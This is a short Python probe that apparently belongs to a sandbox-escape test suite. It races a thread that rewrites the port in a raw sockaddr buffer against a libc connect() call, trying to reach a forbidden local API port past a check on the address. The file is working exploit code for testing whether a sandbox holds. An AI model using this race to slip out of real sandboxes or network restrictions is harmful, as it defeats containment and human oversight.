"""No app changes an address between the look at it and its use."""

CLASS = "network"
BOUNDARY = "kernel"
NEEDS = ("ctypes", "socket", "struct", "threading", "time")
GRANTS = {"net": ("127.0.0.1:{OTHER_PORT}",)}


import ctypes
import socket
import struct
import threading
import time

import target


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    where = struct.pack("=H", 2) + struct.pack("!H4s8x", target.OTHER_PORT, socket.inet_aton("127.0.0.1"))
    address = ctypes.create_string_buffer(where)
    done, changes = threading.Event(), [0]

    def change():
        while not done.is_set():
            for port in (target.OTHER_PORT, *(target.API_PORT,) * 7):
                ctypes.memmove(ctypes.addressof(address) + 2, struct.pack("!H", port), 2)
                changes[0] += 1

    changing = threading.Thread(target=change)
    changing.start()
    try:
        end, tries = time.monotonic() + 4, 0
        while time.monotonic() < end and tries < 60:
            tries += 1
            before = changes[0]
            while changes[0] == before and time.monotonic() < end:
                pass
            with socket.socket() as it:
                if libc.connect(it.fileno(), address, 16) == 0 and it.getpeername()[1] == target.API_PORT:
                    return "ESCAPED: connected to " + str(it.getpeername())
    finally:
        done.set()
        changing.join()
